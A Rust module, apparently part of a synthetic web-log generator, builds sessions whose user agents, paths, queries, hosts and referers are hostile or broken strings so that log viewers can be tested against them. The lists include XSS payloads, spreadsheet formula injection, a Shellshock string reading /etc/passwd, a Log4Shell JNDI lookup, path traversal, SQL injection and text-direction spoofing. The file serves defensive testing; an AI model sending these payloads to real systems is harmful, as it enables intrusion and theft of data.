//! Hostile and broken strings: whatever shows a log must survive them.

use std::sync::Arc;

use super::super::event::{Client, Request, Site, Text};
use super::super::networks;
use super::super::session::Session;
use super::super::site::{SHOP, WWW};
use super::super::syn::{self, Seen};
use super::super::tools;
use super::crawlers::machine;

/// User agents that try to be more than text.
static USER_AGENTS: &[&str] = &[
    "<script>alert(document.domain)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "Mozilla/5.0 \u{202e}tob a ton si siht\u{202c}",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "${jndi:ldap://198.51.100.250/a}",
    "☕🫘👩\u{200d}💻 café\u{301} crawler",
    "{{7*7}} <%= 7*7 %> #{7*7}",
    "'; DROP TABLE http_logs; --",
    "tab\there \\ backslash \"quote\"",
    "\u{7}bell \u{1b}[31mred\u{1b}[0m",
];

/// Paths of the same kind.
static PATHS: &[&str] = &[
    "/<script>alert(1)</script>",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/%00",
    "/\u{202e}gpj.exe",
    "/search/'\"><svg onload=alert(1)>",
    "/日本語/パス",
    "/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y/z",
    "//evil.example/%5c..",
    "/\\\\host\\share",
];

/// Queries of the same kind.
static QUERIES: &[&str] = &[
    "",
    "q=<script>alert(1)</script>",
    "q=%F0%9F%98%80&q=&q",
    "callback=alert",
    "=cmd|' /C calc'!A0",
    "a=\"b\"&c='d'",
];

/// Three requests that are nothing but trouble.
pub(super) fn session(session: &mut Session<'_>) {
    let index = session.rng.below(9);
    let server = machine(
        networks::UNKNOWN.machine(9_000 + index),
        &tools::CURL,
        Seen::after(&syn::LINUX, 14, 1_460),
    );
    let base = Arc::unwrap_or_clone(server);
    let user_agent = match session.rng.below(12) {
        0 => "A".repeat(256),
        1 => String::new(),
        _ => (session.rng.pick(USER_AGENTS)).to_owned(),
    };
    let forwarded = session
        .rng
        .percent(30)
        .then(|| "203.0.113.255, <script>alert(1)</script>, unknown, ::1".to_owned());
    let client = Arc::new(Client { user_agent: Some(user_agent), forwarded, ..base });
    let mut connection = session.connect(&client);
    for place in 0..3 {
        let host: Text = match session.rng.below(8) {
            0 => format!("{}.example.com", "a".repeat(188)).into(),
            1 => "<b>bold</b>.example.com".into(),
            2 => "xn--80ak6aa92e.example.com".into(),
            3 => "".into(),
            4 | 5 => WWW.into(),
            _ => SHOP.into(),
        };
        let path = session.rng.pick(PATHS);
        let query = session.rng.pick(QUERIES);
        let mut request = Request::page(host, path).query(query).answered(400, 226);
        if session.rng.percent(30) {
            request = request.from("javascript:alert(1)//https://evil.example/", Site::None);
        }
        let at = session.start_ms + place * 1_700;
        session.send_clear(at, &client, &mut connection, request);
    }
}
